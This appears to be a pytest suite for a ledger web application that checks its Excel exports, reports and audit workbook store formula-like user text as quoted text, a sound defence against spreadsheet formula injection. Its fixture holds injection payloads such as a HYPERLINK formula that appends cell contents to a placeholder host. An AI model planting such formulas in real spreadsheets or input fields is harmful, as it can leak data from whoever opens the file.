"""Every workbook the product writes carries user text as text: a title like ``=HYPERLINK(...)`` is never a formula.

Spreadsheet programs treat a cell starting with ``= + - @`` (or a tab or CR before one) as a formula to run;
the ledger export, the three reports and the auditor's history workbook are read back here cell by cell.
"""

from __future__ import annotations

from io import BytesIO
from typing import Any

import pytest
import time_machine
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from engine.identity import identity
from engine.store.config import REPO_ROOT
from engine.store.db import transaction
from tests.conftest import People

API = "/api/v1"
TITLES = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "=1+1 整改"]
UNIT = '=HYPERLINK("http://x","科")'


@pytest.fixture
def nasty(client: FlaskClient, people: People, sessions: sessionmaker[Session]) -> list[str]:
    """An item for each title, through measures, owner and a progress report whose texts are formulas too."""
    with transaction(sessions) as session:
        identity.add_department(session, "evil", UNIT)
    with time_machine.travel("2026-11-18T02:00:00+00:00", tick=False):
        for title in TITLES:
            item = client.post(
                f"{API}/items", json={"title": title, "department": "office"}, headers=people.auth("reporter")
            ).json
            assert item["title"] == title
            for data in ({"measures": "=1+2"}, {"owner": "owner"}):
                url = f"{API}/tasks/{item['tasks'][0]['id']}/complete"
                item = client.post(url, json={"data": data}, headers=people.auth("manager")).json
            url = f"{API}/items/{item['id']}/progress"
            progress = {"note": "-n", "plan": "@plan"}
            assert client.post(url, json=progress, headers=people.auth("owner")).status_code == 201
        # A unit whose name is a formula, with an item so that the reports list it.
        item = {"title": "-3", "department": "evil"}
        assert client.post(f"{API}/items", json=item, headers=people.auth("reporter")).status_code == 201
    return [*TITLES, "-3"]


def cells(content: bytes) -> list[Any]:
    """Every cell of every sheet, as openpyxl reads it (a formula would have data_type 'f')."""
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, *expected: str) -> None:
    found = cells(content)
    formulas = [(cell.coordinate, cell.value) for cell in found if cell.data_type == "f"]
    assert formulas == []
    # The quote prefix keeps Excel and LibreOffice from running the text once someone edits the cell.
    unquoted = [
        (cell.coordinate, cell.value)
        for cell in found
        if isinstance(cell.value, str)
        and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
        and not cell.quotePrefix
    ]
    assert unquoted == []
    values = {cell.value for cell in found}
    assert set(expected) <= values, set(expected) - values


def get(client: FlaskClient, people: People, url: str, user: str = "auditor") -> bytes:
    response = client.get(url, headers=people.auth(user))
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_the_ledger_export_is_text_and_reads_back_to_the_same_titles(
    client: FlaskClient, people: People, nasty: list[str]
) -> None:
    content = get(client, people, f"{API}/items/export.xlsx?sort=id", user="approver")
    assert_text_only(content, *nasty, "=1+2", UNIT)
    again = client.post(
        f"{API}/items/import?dry_run=true",
        data={"file": (BytesIO(content), "台账.xlsx")},
        headers=people.auth("reporter"),
        content_type="multipart/form-data",
    )
    assert again.status_code == 200, again.json
    # Read back by 编号, every item is unchanged: the formula-like text comes back as it went out (trimmed, as the
    # importer trims every cell of any ledger).
    assert (again.json["errors"], again.json["rows"]) == ([], [])
    assert len(again.json["unchanged"]) == len(nasty)


@pytest.mark.parametrize(
    "report",
    ["reports/week.xlsx?week=2026-W47", "reports/dispatch.xlsx?period=2026-11-2", "reports/monthly.xlsx?month=2026-11"],
)
def test_the_reports_are_text(client: FlaskClient, people: People, nasty: list[str], report: str) -> None:
    content = get(client, people, f"{API}/{report}")
    expected = [*TITLES, "@plan"] if "week" in report else [UNIT]
    assert_text_only(content, *expected)


def test_the_history_workbook_is_text(client: FlaskClient, people: People, nasty: list[str]) -> None:
    assert_text_only(get(client, people, f"{API}/audit/history.xlsx"), *nasty, "evil")


def test_every_workbook_writer_goes_through_the_one_cell_rule() -> None:
    """The next workbook the product writes is covered too: whoever builds a Workbook writes its cells via xlsx."""
    writers = [
        path.relative_to(REPO_ROOT).as_posix()
        for package in ("engine", "web")
        for path in (REPO_ROOT / package).rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8")
    ]
    assert writers, "the exports build workbooks"
    bypassing = [
        path
        for path in writers
        if "from engine.store import xlsx" not in (text := (REPO_ROOT / path).read_text(encoding="utf-8"))
        or ".cell(" in text.replace("xlsx.write(", "")
    ]
    assert bypassing == []
